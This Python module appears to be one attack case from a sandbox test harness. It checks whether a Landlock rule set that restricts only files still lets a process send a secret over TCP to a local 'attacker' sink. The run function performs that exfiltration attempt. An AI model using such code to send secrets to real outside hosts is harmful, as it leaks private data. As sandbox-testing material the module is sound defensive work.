# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host.
Means: connect(2). Rights on TCP ports came with Landlock's ABI 4; a rule set that names only files
       allows every port.
"""

import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with socket.create_connection(("127.0.0.1", brief.sink), 3) as sink:
            sink.sendall(brief.secret.encode())
    except OSError as why:
        return denied("connect", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "TCP, which has rights of its own since ABI 4",
    "oracle": "sink",
    "attack_id": "T1041, CWE-693",
    "remedy": "LANDLOCK_ACCESS_NET_CONNECT_TCP; seccomp without socket(2)",
    "refs": ["landlock(7)", "Linux 6.7, Landlock ABI 4"],
    "run": run,
}
